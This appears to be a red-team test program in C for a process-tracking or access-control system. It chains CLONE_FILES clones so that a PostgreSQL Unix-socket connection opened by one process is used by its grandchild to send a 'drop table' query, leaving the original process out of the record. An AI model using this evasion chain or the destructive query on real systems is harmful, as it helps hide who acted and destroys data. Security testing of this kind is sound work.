// Red team 3: files_shared holds only the LAST CLONE_FILES fork's (parent, child) tgids.
//   rt_unix_chain LINK TABLE MODE
// chain: P clones C (CLONE_FILES); C clones C2 (CLONE_FILES): entry = C<<32|C2, P not named.
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static size_t startup(char *b, const char *app)
{
    char params[256];
    size_t n = 0;
    const char *kv[] = {"user", "postgres", "database", "awtest", "application_name", app};
    for (int i = 0; i < 6; i++) {
        strcpy(params + n, kv[i]);
        n += strlen(kv[i]) + 1;
    }
    params[n++] = 0;
    uint32_t len = htonl(8 + n), ver = htonl(0x00030000);
    memcpy(b, &len, 4);
    memcpy(b + 4, &ver, 4);
    memcpy(b + 8, params, n);
    return 8 + n;
}

static size_t query(char *b, const char *sql)
{
    size_t n = strlen(sql) + 1;
    uint32_t len = htonl(4 + n);
    b[0] = 'Q';
    memcpy(b + 1, &len, 4);
    memcpy(b + 5, sql, n);
    return 5 + n;
}

static int s;
static const char *table;

static void sender2(void)
{
    char r[4096], b[512];
    size_t got = 0;
    for (;;) {
        ssize_t n = read(s, r + got, sizeof r - got);
        if (n <= 0) {
            fprintf(stderr, "c2 read %zd errno %d\n", n, errno);
            _exit(1);
        }
        got += n;
        if (memchr(r, 'Z', got))
            break;
    }
    char sql[128];
    snprintf(sql, sizeof sql, "drop table %s", table);
    size_t n = query(b, sql);
    ssize_t w = write(s, b, n);
    fprintf(stderr, "c2 wrote %zd errno %d\n", w, errno);
    sleep(2);
    _exit(0);
}

int main(int argc, char **argv)
{
    const char *link = argv[1];
    table = argv[2];
    (void)argc;
    s = socket(AF_UNIX, SOCK_STREAM, 0);
    pid_t P = getpid();
    int pipefd[2];
    pipe(pipefd);
    long c = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
    if (c == 0) {
        // C: make C2 sharing the same table, then wait for P to be gone
        long c2 = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
        if (c2 == 0) {
            pid_t C = getppid();
            while (getppid() == C)
                usleep(10000);   // C gone: it sent the startup packet
            sender2();
        }
        write(pipefd[1], "x", 1);
        while (getppid() == P)
            usleep(10000);
        char b[512];
        size_t n = startup(b, "rt3-chain");
        ssize_t w = write(s, b, n);
        fprintf(stderr, "c wrote %zd errno %d\n", w, errno);
        sleep(2);
        _exit(0);
    }
    char x;
    read(pipefd[0], &x, 1);
    usleep(200000);
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    strncpy(sa.sun_path, link, sizeof sa.sun_path - 1);
    if (connect(s, (struct sockaddr *)&sa, sizeof sa) != 0) {
        printf("refused %d\n", errno);
        fflush(stdout);
        _exit(0);
    }
    printf("connected (alive)\n");
    fflush(stdout);
    sleep(3);
    return 0;
}
